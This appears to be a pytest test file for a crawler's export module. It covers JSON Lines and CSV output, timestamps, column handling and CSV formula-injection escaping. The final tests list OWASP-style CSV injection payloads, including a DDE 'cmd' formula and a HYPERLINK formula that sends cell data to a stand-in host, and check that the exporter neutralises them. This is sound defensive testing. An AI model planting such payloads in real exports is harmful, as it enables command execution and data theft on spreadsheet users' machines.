"""crawlq.export: row shapes, JSON Lines round trip, CSV header and cells, ISO timestamps."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, cast

import pytest

from crawlq.export import export, iso_utc
from crawlq.records import DeadRecord, FilteredRecord, ItemRecord, PageRecord
from crawlq.store import ResultBatch, Store, StoreCounts
from crawlq.store.sqlite import SqliteStore

T0 = datetime(2026, 11, 29, 18, 1, 2, 123000, tzinfo=UTC).timestamp()


def fp(n: int) -> bytes:
    return bytes([n]) * 20


PAGES = [
    PageRecord(fp(1), "https://e.com/", "https://e.com/", 200, "text/html", 0, "Accueil · é", T0,
               5120, 0.25, 1, None, "docs", b"<html>", "crawlq-1.warc.gz", 1234,
               "https://e.com/home"),
    PageRecord(fp(2), "https://e.com/a", "https://e.com/b", 404, "", 1, None, T0 + 60, 0, 1.5, 2,
               "http_404", "docs"),
]  # fmt: skip
DEAD = [
    DeadRecord(fp(3), "https://e.com/slow", "timeout", "read timeout, 30 s", 4, 2, T0 + 1),
    DeadRecord(fp(4), "https://e.com/x", "http_503", 'said "no"', 4, 1, T0 + 2),
]
FILTERED = [
    FilteredRecord(fp(5), "https://e.com/private", "robots_txt", 1, T0 + 3),
    FilteredRecord(fp(6), "https://e.com/deep", "max_depth", 9, T0 + 4),
]


def item(index: int, data: dict[str, Any]) -> ItemRecord:
    return ItemRecord(fp(1), index, "https://e.com/", "docs", data, T0 + index)


class ListStore:
    """A Store over lists, so export is tested apart from any backend."""

    def __init__(
        self,
        pages: Sequence[PageRecord] = (),
        items: Sequence[ItemRecord] = (),
        dead: Sequence[DeadRecord] = (),
        filtered: Sequence[FilteredRecord] = (),
    ) -> None:
        self._pages, self._items, self._dead, self._filtered = pages, items, dead, filtered

    async def write(self, batch: ResultBatch) -> None:
        raise NotImplementedError

    async def counts(self, job: str | None = None) -> StoreCounts:
        raise NotImplementedError

    async def pages(
        self,
        *,
        since: float | None = None,
        with_body: bool = False,
        spider_errors_only: bool = False,
    ) -> AsyncIterator[PageRecord]:
        for p in self._pages:
            if spider_errors_only and not (p.error or "").startswith("spider_error: "):
                continue
            if since is None or p.fetched_at >= since:
                yield p

    async def items(self, *, since: float | None = None) -> AsyncIterator[ItemRecord]:
        for i in self._items:
            if since is None or i.created_at >= since:
                yield i

    async def dead(self) -> AsyncIterator[DeadRecord]:
        for d in self._dead:
            yield d

    async def filtered(self) -> AsyncIterator[FilteredRecord]:
        for f in self._filtered:
            yield f

    async def close(self) -> None:
        pass


def make_store(**records: Any) -> Store:
    return cast(Store, ListStore(**records))  # only the readers export uses


def test_iso_utc() -> None:
    assert iso_utc(T0) == "2026-11-29T18:01:02.123Z"
    assert iso_utc(0) == "1970-01-01T00:00:00.000Z"
    assert iso_utc(59.9996) == "1970-01-01T00:01:00.000Z"  # rounds to the millisecond
    assert iso_utc(1.5) == "1970-01-01T00:00:01.500Z"


async def test_pages_jsonl_round_trip() -> None:
    out = io.StringIO()
    assert await export(make_store(pages=PAGES), "pages", "jsonl", out) == 2
    lines = out.getvalue().splitlines()
    assert "é" in lines[0]  # UTF-8, not \u escapes
    rows = [json.loads(line) for line in lines]
    assert [list(row) for row in rows] == [
        ["url", "final_url", "status", "content_type", "depth", "title", "fetched_at", "size",
         "elapsed_s", "attempt", "error", "spider", "fingerprint", "warc_file", "warc_offset",
         "canonical_url", "referrer"]
    ] * 2  # fmt: skip
    for row, page in zip(rows, PAGES, strict=True):
        assert row == {
            "url": page.url,
            "final_url": page.final_url,
            "status": page.status,
            "content_type": page.content_type,
            "depth": page.depth,
            "title": page.title,
            "fetched_at": iso_utc(page.fetched_at),
            "size": page.size_bytes,
            "elapsed_s": page.elapsed_s,
            "attempt": page.attempt,
            "error": page.error,
            "spider": page.spider,
            "fingerprint": page.fingerprint.hex(),
            "warc_file": page.warc_file,
            "warc_offset": page.warc_offset,
            "canonical_url": page.canonical_url,
            "referrer": page.referrer,
        }
        parsed = datetime.strptime(row["fetched_at"], "%Y-%m-%dT%H:%M:%S.%fZ")
        assert parsed.replace(tzinfo=UTC).timestamp() == pytest.approx(page.fetched_at, abs=1e-3)


async def test_pages_csv_header_and_rows() -> None:
    out = io.StringIO(newline="")
    assert await export(make_store(pages=PAGES), "pages", "csv", out) == 2
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == [
        "url", "final_url", "status", "content_type", "depth", "title", "fetched_at", "size",
        "elapsed_s", "attempt", "error", "spider", "fingerprint", "warc_file", "warc_offset",
        "canonical_url", "referrer",
    ]  # fmt: skip
    assert rows[1] == [
        "https://e.com/", "https://e.com/", "200", "text/html", "0", "Accueil · é",
        "2026-11-29T18:01:02.123Z", "5120", "0.25", "1", "", "docs", "01" * 20,
        "crawlq-1.warc.gz", "1234", "https://e.com/home", "",
    ]  # fmt: skip
    assert rows[2][5] == ""  # a None title is an empty cell
    assert rows[2][10] == "http_404"
    assert out.getvalue().endswith("\r\n")


async def test_pages_since() -> None:
    out = io.StringIO()
    assert await export(make_store(pages=PAGES), "pages", "jsonl", out, since=T0 + 1) == 1
    assert json.loads(out.getvalue())["url"] == "https://e.com/a"


async def test_dead_and_filtered_rows() -> None:
    store = make_store(dead=DEAD, filtered=FILTERED)
    out = io.StringIO()
    assert await export(store, "dead", "jsonl", out) == 2
    assert json.loads(out.getvalue().splitlines()[0]) == {
        "url": "https://e.com/slow",
        "reason": "timeout",
        "detail": "read timeout, 30 s",
        "attempts": 4,
        "depth": 2,
        "at": "2026-11-29T18:01:03.123Z",
        "fingerprint": "03" * 20,
        "referrer": None,
    }
    out = io.StringIO()
    assert await export(store, "filtered", "csv", out) == 2
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["url", "reason", "depth", "at", "fingerprint"],
        ["https://e.com/private", "robots_txt", "1", "2026-11-29T18:01:05.123Z", "05" * 20],
        ["https://e.com/deep", "max_depth", "9", "2026-11-29T18:01:06.123Z", "06" * 20],
    ]
    out = io.StringIO()
    assert await export(store, "dead", "csv", out, since=T0 + 2) == 1
    assert list(csv.reader(io.StringIO(out.getvalue())))[1][2] == 'said "no"'


async def test_items_jsonl_round_trip() -> None:
    items = [
        item(0, {"name": "a", "price": 1.5, "tags": ["x"], "meta": {"k": None}}),
        item(1, {"name": "b", "_url": "shadowed"}),
    ]
    out = io.StringIO()
    assert await export(make_store(items=items), "items", "jsonl", out) == 2
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert rows[0] == {**items[0].data, "_url": "https://e.com/", "_spider": "docs"}
    assert list(rows[0])[-2:] == ["_url", "_spider"]
    assert rows[1] == {"name": "b", "_url": "https://e.com/", "_spider": "docs"}


async def test_items_csv_columns_and_cells() -> None:
    items = [
        item(0, {"name": "a", "price": 1.5}),
        item(1, {"price": 2, "tags": ["x", "y"], "ok": True, "note": None, "_url": "mine"}),
    ]
    out = io.StringIO()
    assert await export(make_store(items=items), "items", "csv", out) == 2
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["name", "price", "tags", "ok", "note", "_url", "_spider", "_extra"],
        ["a", "1.5", "", "", "", "https://e.com/", "docs", ""],
        ["", "2", '["x", "y"]', "true", "", "https://e.com/", "docs", '{"_url": "mine"}'],
    ]


async def test_items_csv_later_unknown_keys_go_to_extra() -> None:
    items = [item(i, {"n": i}) for i in range(1000)]
    items += [item(1000, {"n": 1000, "late": "é", "more": [1]}), item(1001, {"n": 1001})]
    out = io.StringIO()
    assert await export(make_store(items=items), "items", "csv", out) == 1002
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["n", "_url", "_spider", "_extra"]
    assert len(rows) == 1003
    assert rows[1001] == ["1000", "https://e.com/", "docs", '{"late": "é", "more": [1]}']
    assert json.loads(rows[1001][3]) == {"late": "é", "more": [1]}
    assert rows[1002] == ["1001", "https://e.com/", "docs", ""]


async def test_empty_exports() -> None:
    out = io.StringIO()
    assert await export(make_store(), "items", "csv", out) == 0
    assert out.getvalue() == "_url,_spider,_extra\r\n"
    out = io.StringIO()
    assert await export(make_store(), "pages", "jsonl", out) == 0
    assert out.getvalue() == ""


async def test_unknown_kind_or_format() -> None:
    with pytest.raises(ValueError, match="unknown export kind 'page'"):
        await export(make_store(), "page", "jsonl", io.StringIO())  # type: ignore[arg-type]
    with pytest.raises(ValueError, match="unknown export format 'xml'"):
        await export(make_store(), "pages", "xml", io.StringIO())  # type: ignore[arg-type]


async def test_export_from_a_sqlite_store(tmp_path: Path) -> None:
    store = await SqliteStore.open(tmp_path / "crawlq.db")
    try:
        await store.write(ResultBatch(pages=PAGES, items=[item(0, {"name": "a"})], dead=DEAD))
        out = io.StringIO()
        assert await export(store, "pages", "jsonl", out) == 2
        assert [json.loads(line)["fingerprint"] for line in out.getvalue().splitlines()] == [
            "01" * 20,
            "02" * 20,
        ]
        out = io.StringIO()
        assert await export(store, "items", "jsonl", out) == 1
        assert json.loads(out.getvalue()) == {
            "name": "a",
            "_url": "https://e.com/",
            "_spider": "docs",
        }
    finally:
        await store.close()


INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.test/?"&A1,"click")',
]


async def test_csv_neutralises_formulas_in_titles_and_items() -> None:
    """Issue 12.11: OWASP CSV injection payloads are written as text, not formulas."""
    pages = [
        PageRecord(fp(10 + i), f"https://e.com/{i}", f"https://e.com/{i}", 200, title, 0,
                   title, T0, 1, -0.5, 1, None, "docs")
        for i, title in enumerate(INJECTIONS)
    ]  # fmt: skip
    out = io.StringIO(newline="")
    assert await export(make_store(pages=pages), "pages", "csv", out) == len(INJECTIONS)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1:]
    assert [r[5] for r in rows] == ["'" + t for t in INJECTIONS]  # title
    assert [r[3] for r in rows] == ["'" + t for t in INJECTIONS]  # content type, from headers
    assert {r[8] for r in rows} == {"-0.5"}  # numbers stay numbers

    items = [item(0, {"=evil": INJECTIONS[0], "n": -3, "s": "-3", "ok": "fine", "l": ["=x"]})]
    out = io.StringIO(newline="")
    await export(make_store(items=items), "items", "csv", out)
    header, row = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert header[0] == "'=evil"
    assert row[:5] == ["'" + INJECTIONS[0], "-3", "-3", "fine", '["=x"]']


async def test_csv_raw_and_jsonl_keep_values_as_they_are() -> None:
    pages = [
        PageRecord(fp(10), "https://e.com/", "https://e.com/", 200, "text/html", 0,
                   INJECTIONS[0], T0, 1, 0.5, 1, None, "docs")
    ]  # fmt: skip
    out = io.StringIO(newline="")
    await export(make_store(pages=pages), "pages", "csv", out, escape_formulas=False)
    assert list(csv.reader(io.StringIO(out.getvalue(), newline="")))[1][5] == INJECTIONS[0]
    out = io.StringIO()
    await export(make_store(pages=pages), "pages", "jsonl", out)
    assert json.loads(out.getvalue())["title"] == INJECTIONS[0]
